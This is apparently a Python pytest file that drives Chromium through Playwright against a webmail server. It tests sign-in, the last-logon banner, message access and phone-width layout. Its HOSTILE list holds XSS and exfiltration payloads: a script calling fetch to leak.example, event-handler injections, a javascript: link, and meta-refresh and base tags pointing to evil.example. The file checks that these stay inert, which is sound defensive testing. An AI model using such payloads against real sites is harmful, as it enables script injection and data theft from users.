"""Debian's Chromium, driven by Playwright, against the real server on loopback:
sign in, the last-logon banner, read a message, and hostile HTML that runs no
script and sends no request anywhere."""

import os
import shutil
from collections.abc import Iterator
from urllib.parse import urlparse

import pytest

from support import DOMAIN, PASSWORD, World, make_message

CHROMIUM = "/usr/bin/chromium"
pytestmark = pytest.mark.skipif(
    not os.path.exists(CHROMIUM) and not os.environ.get("MAILWARD_REQUIRE_TOOLS"),
    reason="Debian's chromium is not installed (apt-get install chromium)",
)


@pytest.fixture
def browser() -> Iterator[object]:
    from playwright.sync_api import sync_playwright

    assert shutil.which(CHROMIUM) or os.path.exists(CHROMIUM), "chromium missing"
    with sync_playwright() as pw:
        b = pw.chromium.launch(
            executable_path=CHROMIUM,
            headless=True,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield b
        b.close()


HOSTILE = [
    '<script>window.top.document.title = "pwned"; fetch("https://leak.example/x")</script>',
    '<img src="https://tracker.example/pixel.gif" onerror="window.top.document.title=\'pwned\'">',
    '<a href="javascript:window.top.document.title=\'pwned\'" id="js">click</a>',
    '<svg><animate onbegin="window.top.document.title=\'pwned\'" attributeName="x"/></svg>',
    '<div style="background:url(https://css.example/bg.png)">css</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="q"></form><b><i>unclosed</b>',
    '<iframe src="https://frame.example/"></iframe><link rel="stylesheet" href="https://css.example/a.css">',
]


def test_sign_in_read_and_hostile_html_stays_inert(
    live: tuple[World, str], browser: object, tmp_path: object
) -> None:
    w, base = live
    # A previous sign-in, so the banner has something to say.
    w.rt.logins.login(f"alice@{DOMAIN}", PASSWORD, remote="192.0.2.7", client="earlier browser")
    w.deliver("alice", "Your statement is ready", body="Dear Alice, the statement is attached.")
    raw = (
        "From: x@elsewhere.test\r\nTo: alice@example.test\r\nSubject: hostile\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + "".join(HOSTILE)
    ).encode()
    w.rt.system().deliver([f"alice@{DOMAIN}"], raw)
    w.rt.system().deliver([f"bob@{DOMAIN}"], make_message("bob only", "not for alice"))

    page = browser.new_page()  # type: ignore[attr-defined]
    hosts: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: hosts.append(urlparse(r.url).hostname or r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    failed: list[str] = []
    page.on("requestfailed", lambda r: failed.append(f"{r.url} {r.failure}"))

    page.goto(f"{base}/login")
    page.fill("input[name=address]", f"alice@{DOMAIN}")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(f"{base}/mail/INBOX?welcome=1")
    banner = page.inner_text("#last-logon")
    assert "192.0.2.7" in banner and "earlier browser" in banner
    assert page.is_visible("text=Your statement is ready")
    assert not page.is_visible("text=bob only")

    page.click("text=hostile")
    page.wait_for_load_state("networkidle")
    frame = page.frame_locator("iframe.body")
    assert frame.locator("text=unclosed").is_visible()
    if frame.locator("#js").count():
        frame.locator("#js").click()
    page.wait_for_timeout(500)
    assert page.title() != "pwned" and not dialogs
    assert set(hosts) <= {"127.0.0.1"}, (hosts, failed)

    page.click("text=INBOX")
    page.click("text=Your statement is ready")
    assert page.is_visible("text=the statement is attached")


def test_phone_width_pages_fit_and_the_list_keeps_sender_and_date(
    live: tuple[World, str], browser: object
) -> None:
    w, base = live
    long = "Quarterly statement with a subject line long enough to wrap twice on a phone"
    for i in range(3):
        w.deliver("alice", f"{long} {i}", body="Hello, this is the body. " * 10)
    page = browser.new_page(viewport={"width": 390, "height": 844})  # type: ignore[attr-defined]
    page.goto(f"{base}/login")
    page.fill("input[name=address]", f"alice@{DOMAIN}")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(f"{base}/mail/INBOX?welcome=1")
    first = page.locator("table.messages tbody tr").first
    assert first.locator("td.from").is_visible() and first.locator("td.date").is_visible()
    fits = "document.documentElement.scrollWidth <= window.innerWidth"
    assert page.evaluate(fits)
    page.click("table.messages tbody tr a >> nth=0")
    page.wait_for_load_state()
    assert page.evaluate(fits)
    page.goto(f"{base}/security")
    assert page.evaluate(fits)
    box = page.locator("#sessions button").first.bounding_box()
    assert box is not None and box["x"] + box["width"] <= 390
    page.close()
